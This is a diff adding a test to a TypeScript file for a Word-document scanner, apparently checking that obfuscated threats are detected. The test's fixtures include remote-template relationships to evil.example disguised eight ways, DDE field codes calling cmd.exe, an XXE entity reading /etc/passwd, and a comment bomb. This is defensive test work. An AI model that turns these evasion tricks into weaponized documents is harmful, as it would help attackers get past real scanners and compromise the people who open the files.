@@ -64,6 +64,30 @@ describe("what is inside of a Word file", () => {
     expect(look(docxOf(["x"], {}, "<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"), "a.docx")).toBe("file-runs-commands");
     expect(look(docxOf(["x"], { "word/extra.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' }), "a.docx")).toBe("file-unreadable");
   });
+  test("it is told by what a reader of XML reads, however it is written", () => {
+    const rels = (relationships: string): string => `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships}</Relationships>`;
+    const template = (target: string, mode: string, quote = '"'): string => `<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target=${quote}${target}${quote} TargetMode=${mode}/>`;
+    const wide = (text: string, withMark = false): Buffer => Buffer.from(`${withMark ? "\ufeff" : ""}${text}`, "utf16le");
+    const outside: Readonly<Record<string, Readonly<Record<string, string | Buffer>>>> = {
+      "a bracket within quotes": { "word/_rels/settings.xml.rels": rels(template("http://evil.example/?a>b", '"External"')) },
+      "letters by number": { "word/_rels/settings.xml.rels": rels(template("http://evil.example", '"&#69;xtern&#x61;l"')) },
+      "single quotes": { "word/_rels/settings.xml.rels": rels(template("http://evil.example", "'External'", "'")) },
+      "a prefix": { "word/_rels/settings.xml.rels": rels(template("http://evil.example", '"External"').replace("<R", "<pr-x:R")) },
+      "a name in capitals": { "word/_rels/settings.xml.RELS": rels(template("http://evil.example", '"External"')) },
+      "behind a comment": { "word/_rels/settings.xml.rels": rels(`<!-- <Relationship a="-->${template("http://evil.example", '"External"')}`) },
+      "two bytes a letter": { "word/_rels/settings.xml.rels": wide(rels(template("http://evil.example", '"External"')), true) },
+      "the same without a mark": { "word/_rels/settings.xml.rels": wide(rels(template("http://evil.example", '"External"'))) },
+    };
+    for (const [how, parts] of Object.entries(outside)) expect(look(docxOf(["x"], parts), "a.docx"), how).toBe("file-loads-from-outside");
+    for (const field of ["<w:instrText>DD<!-- -->EAUTO c</w:instrText>", "<w:instrText><![CDATA[DDE c]]></w:instrText>", "<v:instrText>DDE c</v:instrText>", '<w:instrText a="b>c">DDE c</w:instrText>', "<w:fldSimple w:instr='DDE c'/>", '<w:fldSimple x:instr="&#68;DE c"/>', '<w:instrText a="<!-- ">DDE c</w:instrText>'.replace("<!-- ", "&lt;!-- ")])
+      expect(look(docxOf(["x"], {}, field), "a.docx"), field).toBe("file-runs-commands");
+    expect(look(docxOf(["x"], { "word/main.dat": `<w:document><w:instrText>DDE c</w:instrText></w:document>` }), "a.docx"), "a part by another name").toBe("file-runs-commands");
+    expect(look(docxOf(["x"], { "word/_rels/document.xml.rels": relationship("oleObject", "embeddings/rechnung.dat", "Internal") }), "a.docx")).toBe("file-runs-commands");
+    expect(look(docxOf(["x"], { "WORD/document.XML": "<w:document/>" }), "a.docx"), "which of the two counts").toBe("file-unreadable");
+    expect(look(docxOf(["x"], { "word/a.xml": "<!--".repeat(200_000) }), "a.docx"), "no end").toBe("file-unreadable");
+    expect(look(docxOf(["x"], { "word/media/bild.svg": '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd"><svg/>' }), "a.docx"), "a drawing is none of it").toMatchObject({ kind: "docx" });
+    expect(look(docxOf(["5 &lt; 6", "DDE und INCLUDETEXT im Text"], { "word/a.xml": "<a><!-- DDE --><![CDATA[ <x ' ]]></a>" }), "a.docx"), "and words are words").toMatchObject({ kind: "docx" });
+  });
   test("macros are refused, also under another name, and a bomb before it swells, whatever its directory says", () => {
     expect(look(docxOf(["x"], { "word/vbaProject.bin": "x" }), "a.docx")).toBe("file-has-macros");
     expect(look(docxOf(["x"], { "word/theme.xml": "x", "word/_rels/document.xml.rels": relationship("vbaProject", "theme.xml", "Internal") }), "a.docx")).toBe("file-runs-commands");
